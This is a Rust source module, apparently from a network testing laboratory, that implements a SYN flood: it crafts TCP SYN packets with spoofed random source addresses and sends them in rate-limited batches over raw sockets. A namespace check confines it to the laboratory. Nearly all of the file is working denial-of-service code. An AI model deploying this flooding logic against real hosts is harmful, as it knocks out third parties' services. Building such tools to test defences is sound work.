//! A source of SYNs from addresses that do not exist: raw sockets, batches, a chosen rate, a seed.

use std::fmt;
use std::io;
use std::mem;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use halfopen_wire::Flags;
use socket2::SockAddr;

use super::{NotOurs, ensure_ours};
use crate::packet::{fix_tcp_checksum, ip_header};
use crate::random::Random;

/// The most SYNs of one run.
pub const COUNT_MAX: u64 = 50_000_000;
/// Packets that one system call hands over.
const BATCH: usize = 64;
const PROTOCOL_TCP: u8 = 6;
/// Header of a SYN as Linux sends it: 20 bytes, and 20 bytes of options.
const SYN_BYTES: usize = 40;
/// `IPV6_HDRINCL`, include/uapi/linux/in6.h.
const IPV6_HDRINCL: libc::c_int = 36;

/// What to send.
#[derive(Clone, Debug)]
pub struct Options {
    /// At whom.
    pub target: SocketAddr,
    /// Sources are drawn from this network…
    pub sources: IpAddr,
    /// …of this prefix length.
    pub prefix: u8,
    /// SYNs a second; 0 is as fast as it goes.
    pub rate: u64,
    /// How many, at most [`COUNT_MAX`].
    pub count: u64,
    /// Stops after this time in any case.
    pub time_max: Duration,
    /// Seed of addresses, ports and sequence numbers.
    pub seed: u64,
}

/// What was sent.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Sent {
    /// SYNs that the kernel took.
    pub syns: u64,
    /// Those it did not: no buffer, filtered on the way out.
    pub refused: u64,
    /// How long it took.
    pub elapsed: Duration,
}

/// Why nothing was sent.
#[derive(Debug)]
pub enum FloodError {
    /// The calling thread is not in a namespace of the laboratory.
    NotOurs(NotOurs),
    /// What was asked makes no sense.
    Options(&'static str),
    /// The kernel refused.
    Socket(io::Error),
}

impl fmt::Display for FloodError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::NotOurs(why) => write!(f, "SYNs are sent inside a laboratory only: {why}"),
            Self::Options(why) => f.write_str(why),
            Self::Socket(error) => write!(f, "raw socket: {error}"),
        }
    }
}

impl std::error::Error for FloodError {}

/// Sends SYNs from the calling thread's namespace until `count`, `time_max` or `stop`. Needs `CAP_NET_RAW` there.
pub fn flood(options: &Options, stop: &AtomicBool) -> Result<Sent, FloodError> {
    ensure_ours().map_err(FloodError::NotOurs)?;
    check(options)?;
    let socket = raw_socket(options.target.is_ipv6()).map_err(FloodError::Socket)?;
    let address = SockAddr::from(SocketAddr::new(options.target.ip(), 0));
    let mut random = Random::new(options.seed);
    let begin = Instant::now();
    let mut sent = Sent {
        syns: 0,
        refused: 0,
        elapsed: Duration::ZERO,
    };
    while sent.syns + sent.refused < options.count
        && !stop.load(Ordering::Relaxed)
        && begin.elapsed() < options.time_max
    {
        let done = sent.syns + sent.refused;
        let due = due(options, begin.elapsed())
            .saturating_sub(done)
            .min(options.count - done);
        if due == 0 {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        let batch: Vec<Vec<u8>> = (0..due.min(BATCH as u64)).map(|_| syn(options, &mut random)).collect();
        let taken = send(&socket, &address, &batch);
        sent.syns += taken as u64;
        sent.refused += (batch.len() - taken) as u64;
    }
    sent.elapsed = begin.elapsed();
    Ok(sent)
}

fn check(options: &Options) -> Result<(), FloodError> {
    let width = if options.sources.is_ipv6() { 128 } else { 32 };
    if options.sources.is_ipv6() != options.target.is_ipv6() {
        Err(FloodError::Options("sources and target must be of one address family"))
    } else if options.prefix > width {
        Err(FloodError::Options("the prefix is longer than the address"))
    } else if options.count > COUNT_MAX {
        Err(FloodError::Options("at most 50 000 000 SYNs"))
    } else {
        Ok(())
    }
}

/// How many should have been sent by now.
fn due(options: &Options, elapsed: Duration) -> u64 {
    match options.rate {
        0 => u64::MAX,
        rate => (elapsed.as_secs_f64() * rate as f64) as u64,
    }
}

/// An address of the network with random host bits.
fn source(options: &Options, random: &mut Random) -> IpAddr {
    match options.sources {
        IpAddr::V4(network) => {
            let host = u32::MAX.checked_shr(u32::from(options.prefix)).unwrap_or(0);
            IpAddr::V4(((u32::from(network) & !host) | (random.next() as u32 & host)).into())
        }
        IpAddr::V6(network) => {
            let host = u128::MAX.checked_shr(u32::from(options.prefix)).unwrap_or(0);
            let drawn = u128::from(random.next()) << 64 | u128::from(random.next());
            IpAddr::V6(((u128::from(network) & !host) | (drawn & host)).into())
        }
    }
}

/// A SYN with the options of Linux: MSS, SACK permitted, timestamps, window scale.
fn syn(options: &Options, random: &mut Random) -> Vec<u8> {
    let chance = random.next();
    let mut packet = ip_header(source(options, random), options.target.ip(), PROTOCOL_TCP, SYN_BYTES);
    let header = packet.len();
    packet.extend((1024 + (chance % 64_000) as u16).to_be_bytes());
    packet.extend(options.target.port().to_be_bytes());
    packet.extend(((chance >> 32) as u32).to_be_bytes());
    packet.extend([0; 4]);
    packet.extend((10_u16 << 12 | Flags::SYN).to_be_bytes());
    packet.extend([0xfa, 0xf0, 0, 0, 0, 0]);
    packet.extend([2, 4, 0x05, 0xb4, 4, 2, 8, 10]);
    packet.extend(((chance >> 16) as u32 | 1).to_be_bytes());
    packet.extend([0, 0, 0, 0, 1, 3, 3, 7]);
    fix_tcp_checksum(&mut packet, header);
    packet
}

fn raw_socket(v6: bool) -> io::Result<OwnedFd> {
    let domain = if v6 { libc::AF_INET6 } else { libc::AF_INET };
    // SAFETY: no pointers; the result is checked before it is owned.
    let fd = unsafe { libc::socket(domain, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: the kernel has just handed out this descriptor, nobody else has it.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    let (level, option) = if v6 {
        (libc::IPPROTO_IPV6, IPV6_HDRINCL)
    } else {
        (libc::IPPROTO_IP, libc::IP_HDRINCL)
    };
    crate::sys::set_int(&socket, level, option, 1)?;
    Ok(socket)
}

/// How many of the batch the kernel took.
fn send(socket: &OwnedFd, address: &SockAddr, batch: &[Vec<u8>]) -> usize {
    let mut parts: Vec<libc::iovec> = batch
        .iter()
        .map(|packet| libc::iovec {
            iov_base: packet.as_ptr().cast_mut().cast(),
            iov_len: packet.len(),
        })
        .collect();
    let mut messages: Vec<libc::mmsghdr> = parts
        .iter_mut()
        .map(|part| {
            // SAFETY: all zeroes are a valid `mmsghdr`, a plain C structure.
            let mut message: libc::mmsghdr = unsafe { mem::zeroed() };
            message.msg_hdr.msg_name = address.as_ptr().cast_mut().cast();
            message.msg_hdr.msg_namelen = address.len();
            message.msg_hdr.msg_iov = part;
            message.msg_hdr.msg_iovlen = 1;
            message
        })
        .collect();
    // SAFETY: `messages` points into `parts`, `address` and `batch`, which all outlive the call; sending writes nothing but
    // `msg_len` in `messages`.
    let taken = unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), messages.len() as u32, 0) };
    usize::try_from(taken).unwrap_or(0)
}
